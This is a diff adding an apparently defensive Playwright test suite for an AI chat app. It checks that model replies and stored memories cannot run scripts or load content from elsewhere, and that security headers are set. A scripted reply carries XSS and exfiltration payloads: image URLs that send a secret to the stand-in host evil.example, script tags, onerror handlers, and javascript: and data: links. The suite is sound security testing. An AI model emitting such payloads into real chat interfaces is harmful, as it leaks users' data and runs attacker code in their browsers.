@@ -1,0 +1,189 @@
+import { globSync } from 'node:fs';
+import { expect, type Page, test } from '@playwright/test';
+import { type AppServer, startAppServer } from './fixtures/app-server';
+import { type ModelServer, startModelServer } from './fixtures/model-server';
+import { type PageWatch, watchPage } from './fixtures/watch-page';
+
+let app: AppServer;
+let model: ModelServer;
+let page: Page;
+let watch: PageWatch;
+
+const ELSEWHERE = 'https://evil.example';
+const NOTHING: PageWatch = { violations: [], strangers: [], dialogs: [] };
+
+test.beforeAll(async ({ browser }) => {
+  model = await startModelServer();
+  app = await startAppServer({ OPENAI_BASE_URL: model.baseUrl, KEEPSAKE_CHAT_MODEL: 'scripted-chat' });
+  page = await browser.newPage();
+  watch = await watchPage(page, app.url);
+  // The first registered account is the administrator's: every page is open to it.
+  await page.goto(`${app.url}/sign-in`);
+  const { ok } = await page.evaluate(async () => {
+    const body = JSON.stringify({
+      name: 'Sam',
+      email: 'sam@example.org',
+      password: 'a long enough password',
+    });
+    const headers = { 'content-type': 'application/json' };
+    const response = await fetch('/api/auth/sign-up/email', { method: 'POST', headers, body });
+    return { ok: response.ok };
+  });
+  expect(ok).toBe(true);
+});
+test.afterAll(async () => {
+  await page.close();
+  await app.stop();
+  await model.close();
+});
+
+async function say(text: string): Promise<void> {
+  await page.getByRole('textbox', { name: 'Your message' }).fill(text);
+  await page.keyboard.press('Enter');
+}
+
+/** Every page of the app; `[id]` becomes `id`. */
+function pages(id: string): string[] {
+  return globSync('app/**/page.tsx')
+    .map(
+      (file) =>
+        `/${file
+          .split('/')
+          .slice(1, -1)
+          .filter((part) => !part.startsWith('('))
+          .join('/')}`,
+    )
+    .map((path) => path.replace('[id]', id))
+    .sort();
+}
+
+test('a reply cannot run a script, load a picture from elsewhere or hide where a link goes', async () => {
+  const secret = 'the-persons-secret';
+  model.on(
+    { task: 'chat' },
+    {
+      name: 'text',
+      text: [
+        'Before the attack.',
+        `![a picture](${ELSEWHERE}/p.png?q=${secret})`,
+        `![by reference][pixel]`,
+        `<img src="${ELSEWHERE}/i.png?q=${secret}" onerror="alert(1)">`,
+        `<script>alert(2)</script><script src="${ELSEWHERE}/s.js"></script>`,
+        `<iframe src="${ELSEWHERE}/f"></iframe><object data="${ELSEWHERE}/o"></object>`,
+        `<svg onload="alert(3)"><image href="${ELSEWHERE}/v.png"/></svg>`,
+        `<picture><source srcset="${ELSEWHERE}/w.png"><img src="x"></picture>`,
+        `<video src="${ELSEWHERE}/m.mp4" poster="${ELSEWHERE}/m.png" autoplay></video>`,
+        `<link rel="stylesheet" href="${ELSEWHERE}/c.css"><style>@import url(${ELSEWHERE}/d.css);</style>`,
+        `<p style="background:url(${ELSEWHERE}/b.png)">styled</p>`,
+        `<form action="${ELSEWHERE}/post"><button>send</button></form>`,
+        `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/r"><base href="${ELSEWHERE}/">`,
+        '[a link](javascript:alert(4)) and [another](data:text/html,<script>alert(5)</script>)',
+        `[a plain link](${ELSEWHERE}/plain)`,
+        'After the attack.',
+        '',
+        `[pixel]: ${ELSEWHERE}/ref.png`,
+      ].join('\n\n'),
+    },
+  );
+  await page.goto(app.url);
+  await say('What do you think of owls?');
+  await expect(page.getByText('After the attack.', { exact: true })).toBeVisible();
+  const id = page.url().split('/').at(-1);
+  // Once while it streams, once as the stored conversation.
+  for (const visit of ['streamed', 'stored']) {
+    if (visit === 'stored') await page.goto(`${app.url}/c/${id}`);
+    await expect(page.getByText('After the attack.', { exact: true })).toBeVisible();
+    const reply = page.getByRole('article').filter({ hasText: 'After the attack.' });
+    const forbidden =
+      'script, iframe, object, embed, svg image, video, link, style, form, meta, base, img, source';
+    const found = await reply.locator(forbidden).evaluateAll((all) => all.map((one) => one.outerHTML));
+    expect(found, visit).toEqual([]);
+    const links = await reply.locator('a').evaluateAll((all) => all.map((a) => a.getAttribute('href')));
+    expect(
+      links.filter((href) => href !== null && !href.startsWith('https://')),
+      visit,
+    ).toEqual([]);
+    await expect(reply.locator(`a[href="${ELSEWHERE}/plain"]`)).toHaveAttribute('rel', /noopener/);
+  }
+  expect(watch).toEqual(NOTHING);
+});
+
+test('a memory is text, wherever it is shown', async () => {
+  model.on({ task: 'chat' }, { name: 'text', text: 'I see.' });
+  await page.goto(app.url);
+  await say(
+    `Remember that I love ![owls](${ELSEWHERE}/m.png?q=1) <img src="${ELSEWHERE}/n.png" onerror="alert(6)">`,
+  );
+  await expect(page.getByRole('heading', { name: 'I will remember' })).toBeVisible();
+  for (const path of ['/profile', '/profile/why-not', page.url().replace(app.url, '')]) {
+    await page.goto(app.url + path);
+    await page.waitForLoadState('networkidle').catch(() => {});
+    await expect(page.locator(`img[src*="evil.example"]`)).toHaveCount(0);
+  }
+  expect(watch).toEqual(NOTHING);
+});
+
+test('no page breaks its policy or asks anybody else for anything', async () => {
+  await page.goto(app.url);
+  const id: string = await page.evaluate(async () => {
+    const headers = { 'content-type': 'application/json' };
+    return (await (await fetch('/api/conversations', { method: 'POST', headers, body: '{}' })).json()).id;
+  });
+  for (const path of [...pages(id), '/no-such-page']) {
+    const response = await page.goto(app.url + path);
+    expect(response?.headers()['content-security-policy'], path).toContain("'strict-dynamic'");
+    // The live channel never ends, so the network is never quite idle.
+    await page.waitForTimeout(700);
+    expect([path, watch]).toEqual([path, NOTHING]);
+  }
+});
+
+test('dialogs, menus and toasts keep to the policy too', async () => {
+  await page.goto(`${app.url}/profile`);
+  await page.keyboard.press('Control+k');
+  await page.waitForTimeout(300);
+  await page.keyboard.press('Escape');
+  await page.goto(`${app.url}/settings`);
+  for (const role of ['combobox', 'switch'] as const) {
+    const control = page.getByRole(role).first();
+    if (!(await control.count())) continue;
+    await control.click();
+    await page.waitForTimeout(300);
+    await page.keyboard.press('Escape');
+  }
+  expect(watch).toEqual(NOTHING);
+});
+
+test('each answer says how it may be used', async () => {
+  const [first, second] = await Promise.all([page.request.get(app.url), page.request.get(app.url)]);
+  const policy = (response: typeof first) => response.headers()['content-security-policy'] ?? '';
+  const nonce = (response: typeof first) => /'nonce-([^']+)'/.exec(policy(response))?.[1];
+  expect(nonce(first)).toHaveLength(24);
+  expect(nonce(first)).not.toBe(nonce(second));
+  const [, script = ''] = /script-src ([^;]*)/.exec(policy(first)) ?? [];
+  expect(script).not.toMatch(/unsafe|https?:|\*/);
+  for (const part of [
+    "default-src 'none'",
+    "frame-ancestors 'none'",
+    "base-uri 'none'",
+    "form-action 'self'",
+    "connect-src 'self'",
+    "img-src 'self' data:",
+    "object-src 'none'",
+  ])
+    expect(policy(first)).toContain(part);
+  for (const path of ['/', '/sign-in', '/api/health', '/api/memory', '/icon.svg']) {
+    const headers = (await page.request.get(app.url + path)).headers();
+    expect(headers, path).toMatchObject({
+      'x-content-type-options': 'nosniff',
+      'x-frame-options': 'DENY',
+      'referrer-policy': 'same-origin',
+      'cross-origin-opener-policy': 'same-origin',
+    });
+    expect(headers['permissions-policy'], path).toContain('camera=()');
+    expect(headers['x-powered-by'], path).toBeUndefined();
+  }
+  expect((await page.request.get(`${app.url}/api/memory`)).headers()['content-security-policy']).toContain(
+    "default-src 'none'",
+  );
+});
